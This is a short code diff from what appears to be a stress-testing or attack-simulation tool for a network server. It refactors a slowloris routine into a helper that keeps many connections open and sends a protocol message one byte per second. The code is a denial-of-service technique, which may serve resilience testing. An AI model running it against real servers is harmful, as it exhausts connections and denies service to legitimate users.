@@ -140,9 +140,13 @@ def attack_partial_frames(address, size, stop, info):
 
 def attack_slowloris(address, size, stop, info):
     """``size`` connections each send one byte a second (of channel list requests)."""
+    trickle(address, size, stop, M.encode(M.ChannelListRequest(b"\x01\x02\x03\x04", 0, 0)))
+
+
+def trickle(address, size, stop, msg: bytes) -> None:
+    """``size`` connections to ``address`` each sending ``msg`` over and over, one byte a second, until ``stop``."""
     sk = Sockets(address)
     sk.open(size, stop)
-    msg = M.encode(M.ChannelListRequest(b"\x01\x02\x03\x04", 0, 0))
     i = 0
     while not stop.wait(1.0):
         for s in list(sk.socks):
